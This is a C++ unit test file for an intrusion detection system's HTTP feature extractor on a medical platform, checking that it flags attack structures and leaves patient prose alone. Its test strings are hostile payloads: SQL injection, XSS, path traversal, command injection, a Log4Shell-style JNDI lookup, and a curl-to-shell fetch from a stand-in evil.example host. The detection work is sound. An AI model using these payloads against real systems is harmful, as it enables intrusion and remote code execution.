#include "ids/ml/http_features.h"

#include <gtest/gtest.h>

#include <cmath>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <optional>
#include <random>
#include <set>
#include <string>

#include "ids/ml/datasets.h"

namespace medmesh::ids::ml {
namespace {

// The value-block feature `name` ("value_max.<name>") of a single value.
float ValueFeature(std::string_view value, const std::string& name) {
  const std::vector<float> f = ExtractValueRequestFeatures(value);
  const auto& schema = HttpFeatureSchema();
  for (std::size_t i = 0; i < schema.size(); ++i) {
    if (schema[i] == "value_max." + name) return f[i];
  }
  ADD_FAILURE() << "no feature " << name;
  return -1;
}

TEST(PercentDecode, DecodesEscapesAndKeepsMalformedOnes) {
  EXPECT_EQ(PercentDecode("a%20b%3Cc", false), "a b<c");
  EXPECT_EQ(PercentDecode("a+b", true), "a b");
  EXPECT_EQ(PercentDecode("a+b", false), "a+b");
  EXPECT_EQ(PercentDecode("100%", false), "100%");
  EXPECT_EQ(PercentDecode("%zz%4", false), "%zz%4");
}

TEST(DecodeFully, CountsEncodingDepth) {
  int depth = -1;
  EXPECT_EQ(DecodeFully("%2527", &depth), "'");
  EXPECT_EQ(depth, 2);
  EXPECT_EQ(DecodeFully("plain text", &depth), "plain text");
  EXPECT_EQ(depth, 0);
}

TEST(SplitParams, SplitsPairsAndSkipsEmptyParts) {
  const auto p = SplitParams("a=1&&b=&c&d=x=y");
  ASSERT_EQ(p.size(), 4u);
  EXPECT_EQ(p[0].first, "a");
  EXPECT_EQ(p[0].second, "1");
  EXPECT_EQ(p[1].second, "");
  EXPECT_EQ(p[2].first, "c");
  EXPECT_EQ(p[3].second, "x=y");
}

TEST(HttpFeatures, SchemaMatchesVectorWidth) {
  const auto& schema = HttpFeatureSchema();
  const std::size_t n = schema.size();
  EXPECT_EQ(std::set<std::string>(schema.begin(), schema.end()).size(), n);  // unique names
  EXPECT_EQ(ExtractValueRequestFeatures("x").size(), n);
  EXPECT_EQ(ExtractRequestFeatures({"GET", "/a/b.jsp", "id=1&x=%27", ""}).size(), n);
}

TEST(HttpFeatures, SqlInjectionStructures) {
  EXPECT_GE(ValueFeature("1' OR '1'='1' --", "sql_quote_op"), 1);
  EXPECT_GE(ValueFeature("1' OR '1'='1' --", "sql_tautology"), 1);
  EXPECT_GE(ValueFeature("1' OR '1'='1' --", "sql_comment"), 1);
  EXPECT_GE(ValueFeature("1%27%20union%20select%20null,version()--", "sql_quote_op"), 1);
  EXPECT_GE(ValueFeature("1 AND SLEEP(5)", "sql_func_call"), 1);
  EXPECT_GE(ValueFeature("'/**/or/**/1=1", "sql_quote_op"), 1);
}

TEST(HttpFeatures, ProseIsNotSql) {
  // English keywords outside SQL structures, apostrophes inside words, "<3", "--" between words.
  for (std::string_view prose :
       {"Please select a time, or call me; I'll confirm.", "Mrs. O'Brien's knee -- better today",
        "Thank you <3", "Dose: 5 mg/day and 10 mg/day after a week"}) {
    SCOPED_TRACE(std::string(prose));
    EXPECT_EQ(ValueFeature(prose, "sql_quote_op"), 0);
    EXPECT_EQ(ValueFeature(prose, "sql_func_call"), 0);
    EXPECT_EQ(ValueFeature(prose, "html_tag_open"), 0);
    EXPECT_EQ(ValueFeature(prose, "structural_quotes"), 0);
    EXPECT_EQ(ValueFeature(prose, "sql_comment"), 0);
  }
}

TEST(HttpFeatures, ScriptTraversalAndCommands) {
  EXPECT_EQ(ValueFeature("<script>alert(1)</script>", "html_tag_open"), 2);
  EXPECT_GE(ValueFeature("<script>alert(1)</script>", "xss_keywords"), 2);
  EXPECT_EQ(ValueFeature("<img src=x onerror=alert(1)>", "event_handler"), 1);
  EXPECT_EQ(ValueFeature("..%2F..%2F..%2Fetc%2Fpasswd", "traversal"), 3);
  EXPECT_GE(ValueFeature("..%2F..%2F..%2Fetc%2Fpasswd", "sensitive_path"), 1);
  EXPECT_EQ(ValueFeature("..%2F..%2F..%2Fetc%2Fpasswd", "decode_depth"), 1);
  EXPECT_EQ(ValueFeature("x; cat /etc/passwd", "shell_command"), 1);
  EXPECT_EQ(ValueFeature("a | whoami", "shell_command"), 1);
  EXPECT_EQ(ValueFeature("bread; milk; eggs", "shell_command"), 0);
  EXPECT_EQ(ValueFeature("a%0d%0aSet-Cookie:x", "crlf"), 2);
}

TEST(HttpFeatures, V2TraversalAndSystemPathsWidenTheGate) {
  EXPECT_EQ(ValueFeature("....//....//etc/passwd", "dot_slash_runs"), 2);
  EXPECT_EQ(ValueFeature("Wait... then rest. Better..", "dot_slash_runs"), 0);  // ellipses
  EXPECT_EQ(ValueFeature("|/usr/bin/id|", "system_paths"), 2);  // "/usr/" and "/bin/"
  EXPECT_EQ(ValueFeature("a | id", "pipe_word"), 1);
  EXPECT_EQ(ValueFeature("Ann123", "only_alnum"), 1);
  EXPECT_TRUE(HasAttackStructure("....//....//boot"));
  EXPECT_TRUE(HasAttackStructure("x|/usr/bin/id"));
  EXPECT_TRUE(HasAttackStructure("file:///c:/boot"));
  EXPECT_TRUE(HasAttackStructure("........etcpasswd"));
  EXPECT_TRUE(HasAttackStructure("-6449')) or 2590=2848"));
  EXPECT_TRUE(HasAttackStructure("1';waitfor delay '0:0:5'"));
  EXPECT_TRUE(HasAttackStructure("(select (case when (1=1) then 1 else 0 end))"));
  EXPECT_TRUE(HasAttackStructure("\";alert('x');//"));
  EXPECT_TRUE(HasAttackStructure("`true`"));
  EXPECT_TRUE(HasAttackStructure("cat /etc/hosts"));
  EXPECT_TRUE(HasAttackStructure("127.0.0.1 & whoami"));
  EXPECT_TRUE(HasAttackStructure("x; cat /etc/passwd"));
  EXPECT_TRUE(HasAttackStructure("' OR '1'='1' --"));
  EXPECT_TRUE(HasAttackStructure("admin' or 1#"));
  for (std::string_view prose :
       {"Wait... then rest.", "I forgot my passwd again", "Blood pressure 120/80 at 9:30",
        "Take 1/2 tablet... and call me (24/7)", "So tired...... can't sleep",
        "The dog & cat both sleep in our bed", "Is it \"take with food\" or \"fasting\"?",
        "Doctor said (\"no running\") or swimming", "Please update me tomorrow; update the GP",
        "Call me; select a slot after 3 pm", "(select one) and let me know",
        "Saved it as C:/Users/ann/scan.pdf"}) {
    SCOPED_TRACE(std::string(prose));
    EXPECT_FALSE(HasAttackStructure(prose));
  }
}

TEST(HttpFeatures, TemplateExpressionsAreAStructureAndPlaceholdersAreNot) {
  for (const char* attack :
       {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "${jndi:ldap://evil.example/a}",
        "{{config.items()}}", "{{ ''.__class__ }}", "x %7B%7B7*7%7D%7D y"}) {
    EXPECT_TRUE(HasTemplateExpression(attack)) << attack;
    EXPECT_TRUE(HasAttackStructure(attack)) << attack;
  }
  for (const char* prose :
       {"costs ${5} co-pay", "Hello {{name}}", "{{ user.name }}", "#{count} readings",
        "Cost was ${12.50}", "<% normal %>", "{{ }}", "{8 of 10}", "100% {adherence}",
        "{{unclosed 7*7", "${5} and then 7*7}"}) {
    EXPECT_FALSE(HasTemplateExpression(prose)) << prose;
    EXPECT_FALSE(HasAttackStructure(prose)) << prose;
  }
  // "${" is no longer a command substitution for the gate; "$(" still is.
  EXPECT_TRUE(HasAttackStructure("$(curl http://evil.example/x.sh | sh)"));
  EXPECT_FALSE(HasAttackStructure("Budget ${40} or less"));
}

TEST(HttpFeatures, V1LayoutIsAPrefixOfV2) {
  const auto& schema = HttpFeatureSchema();
  ASSERT_GT(schema.size(), kHttpV1FeatureCount);
  EXPECT_EQ(schema[kHttpV1FeatureCount - 1], "request.path_has_ext");
  EXPECT_EQ(schema[kHttpV1FeatureCount], "value_max.dot_slash_runs");
  EXPECT_EQ(schema.back(), "profile.shape_miss");
  // Without a profile the profile block is missing (NaN), never zero.
  const auto f = ExtractRequestFeatures({"GET", "/a/b.jsp", "id=1", ""});
  EXPECT_TRUE(std::isnan(f.back()));
}

TEST(HttpFeatures, CharacterStatistics) {
  EXPECT_EQ(ValueFeature("abcd", "len"), 4);
  EXPECT_FLOAT_EQ(ValueFeature("ab12", "digit_ratio"), 0.5f);
  EXPECT_FLOAT_EQ(ValueFeature("aaaa", "entropy"), 0.0f);
  EXPECT_FLOAT_EQ(ValueFeature("abcd", "entropy"), 2.0f);
  EXPECT_EQ(ValueFeature("a'\"<>b", "max_special_run"), 4);
}

TEST(HttpFeatures, RequestTakesTheWorstValueAndPathShape) {
  const auto& schema = HttpFeatureSchema();
  auto at = [&](const std::vector<float>& f, const std::string& name) {
    for (std::size_t i = 0; i < schema.size(); ++i) {
      if (schema[i] == name) return f[i];
    }
    ADD_FAILURE() << name;
    return -1.0f;
  };
  const auto f = ExtractRequestFeatures(
      {"POST", "/shop/admin.jsp.bak", "id=2", "name=Ann&q=%3Cscript%3Ealert(1)%3C/script%3E&id=3"});
  EXPECT_EQ(at(f, "value_max.html_tag_open"), 2);
  EXPECT_EQ(at(f, "request.params"), 4);
  EXPECT_EQ(at(f, "request.duplicate_keys"), 1);
  EXPECT_EQ(at(f, "request.is_post"), 1);
  EXPECT_EQ(at(f, "request.path_backup_ext"), 1);
  EXPECT_EQ(at(f, "request.path_depth"), 2);
}

}  // namespace
}  // namespace medmesh::ids::ml

namespace medmesh::ids::ml {
namespace {

// The index of feature value_max.<name> in HttpFeatureSchema() (the test fails if there is none).
std::size_t ValueFeatureIndex(std::string_view name) {
  const auto& schema = HttpFeatureSchema();
  const std::string wanted = "value_max." + std::string(name);
  for (std::size_t i = 0; i < schema.size(); ++i) {
    if (schema[i] == wanted) return i;
  }
  ADD_FAILURE() << "no feature " << wanted;
  return 0;
}

// The gate as the model's features define it: what HasAttackStructure computed until ADR 0055
// (every value feature, then these read). The cheap gate must agree with it on every value.
// Returns nullopt when the oracle itself is inexact (a decoded value that would decode again
// in HasTemplateExpression).
std::optional<bool> GateByFeatures(std::string_view value) {
  // Looked up once: per value and feature the lookup cost more than the gate itself (the test
  // checks ~150k values; under ASan it took ~2 minutes).
  static const std::vector<std::size_t> kGateFeatures = [] {
    std::vector<std::size_t> out;
    for (std::string_view name : {"sql_tautology",
                                  "sql_comment",
                                  "sql_func_call",
                                  "html_tag_open",
                                  "event_handler",
                                  "traversal",
                                  "sensitive_path",
                                  "null_byte",
                                  "ssi",
                                  "dot_slash_runs",
                                  "system_paths",
                                  "sql_paren_op",
                                  "sql_after_semicolon",
                                  "sql_subselect",
                                  "sql_func_call2",
                                  "js_call",
                                  "shell_backtick",
                                  "shell_call",
                                  "shell_command_line",
                                  "long_dot_runs",
                                  "slash_dot_start",
                                  "sql_quote_op_strict"}) {
      out.push_back(ValueFeatureIndex(name));
    }
    return out;
  }();
  static const std::size_t kShellCommandStrict = ValueFeatureIndex("shell_command_strict");
  const std::vector<float> f = ExtractValueRequestFeatures(value);
  for (std::size_t i : kGateFeatures) {
    if (f[i] > 0) return true;
  }
  const std::string decoded = DecodeFully(value, nullptr);
  int dollar_braces = 0;
  for (std::size_t p = decoded.find("${"); p != std::string::npos; p = decoded.find("${", p + 1)) {
    ++dollar_braces;
  }
  if (f[kShellCommandStrict] - static_cast<float>(dollar_braces) > 0) return true;
  if (decoded.find('%') != std::string::npos && DecodeFully(decoded, nullptr) != decoded) {
    return std::nullopt;
  }
  return HasTemplateExpression(decoded);
}

std::vector<std::string> Lines(const std::filesystem::path& file) {
  std::ifstream in(file);
  std::vector<std::string> out;
  for (std::string line; std::getline(in, line);) out.push_back(line);
  return out;
}

// ADR 0055: the gate asks only the structures whose bytes a value holds. It must flag exactly
// what the feature-based gate flagged: checked on the benign corpora, the UI's requests, the
// httpparams payloads and CSIC's anomalous requests (when ../shared holds them), and on 30,000
// seeded splices of those with structural bytes, encodings and case changes.
TEST(HttpFeatures, TheCheapGateFlagsExactlyWhatTheFeatureGateFlags) {
  std::vector<std::string> corpus;
  const std::filesystem::path data = MEDMESH_IDS_TEST_DATA_DIR;
  for (const auto& entry : std::filesystem::directory_iterator(data)) {
    if (entry.path().extension() != ".txt") continue;
    for (std::string& line : Lines(entry.path())) corpus.push_back(std::move(line));
  }
  const std::size_t local = corpus.size();
  ASSERT_GT(local, 500u);
  const std::filesystem::path shared = MEDMESH_SHARED_DATASETS_DIR;
  if (auto values = ReadHttpParamsFile(shared / "httpparams" / "payload_train.csv")) {
    for (LabeledValue& v : *values) corpus.push_back(std::move(v.payload));
  }
  if (auto requests = ReadCsicFile(shared / "csic2010" / "anomalousTraffic_train70.txt.gz")) {
    for (const LabeledRequest& r : *requests) {
      corpus.push_back(r.path);
      for (const auto& [key, value] : SplitParams(r.query)) corpus.emplace_back(value);
      for (const auto& [key, value] : SplitParams(r.body)) corpus.emplace_back(value);
    }
  }
  std::cout << "[ gate     ] corpus: " << local << " local values, " << corpus.size() - local
            << " from ../shared\n";

  std::mt19937_64 rng(55);
  auto pick = [&](std::size_t n) {
    return std::uniform_int_distribution<std::size_t>(0, n - 1)(rng);
  };
  constexpr std::string_view kBytes = "=*-#()<>.;|&`$'\"{}%/\\\n +_!?:@0123456789ABCDEFxyz";
  const std::size_t originals = corpus.size();
  for (int i = 0; i < 30000; ++i) {
    std::string v = corpus[pick(originals)];
    const std::string& other = corpus[pick(originals)];
    switch (pick(5)) {
      case 0: {  // another value's piece spliced in
        const std::size_t from = other.empty() ? 0 : pick(other.size());
        const std::size_t at = v.empty() ? 0 : pick(v.size() + 1);
        v.insert(at, other.substr(from, 1 + pick(24)));
        break;
      }
      case 1:  // structural bytes sprinkled
        for (int k = 0; k < 3; ++k)
          v.insert(v.empty() ? 0 : pick(v.size() + 1), 1, kBytes[pick(kBytes.size())]);
        break;
      case 2:  // a byte percent-encoded (once or twice)
        if (!v.empty()) {
          const std::size_t at = pick(v.size());
          char hex[4];
          std::snprintf(hex, sizeof hex, "%%%02X", static_cast<unsigned char>(v[at]));
          v.replace(at, 1, pick(2) == 0 ? std::string(hex) : "%25" + std::string(hex + 1));
        }
        break;
      case 3:  // upper case
        for (char& c : v) {
          if (c >= 'a' && c <= 'z' && pick(2) == 0) c = static_cast<char>(c - 'a' + 'A');
        }
        break;
      default:  // a short window of a value
        if (!v.empty()) v = v.substr(pick(v.size()), 1 + pick(16));
        break;
    }
    corpus.push_back(std::move(v));
  }

  std::size_t flagged = 0, inexact = 0, disagreements = 0;
  for (const std::string& value : corpus) {
    const std::optional<bool> expected = GateByFeatures(value);
    if (!expected) {
      ++inexact;
      continue;
    }
    const bool got = HasAttackStructure(value);
    flagged += got ? 1 : 0;
    if (got != *expected && ++disagreements <= 20) {
      ADD_FAILURE() << "gate " << got << ", features " << *expected << ": " << value;
    }
  }
  std::cout << "[ gate     ] " << corpus.size() << " values, " << flagged << " gated, " << inexact
            << " without an exact oracle, " << disagreements << " disagreements\n";
  EXPECT_EQ(disagreements, 0u);
  EXPECT_LT(inexact, corpus.size() / 100);
  EXPECT_GT(flagged, 0u);
}

}  // namespace
}  // namespace medmesh::ids::ml
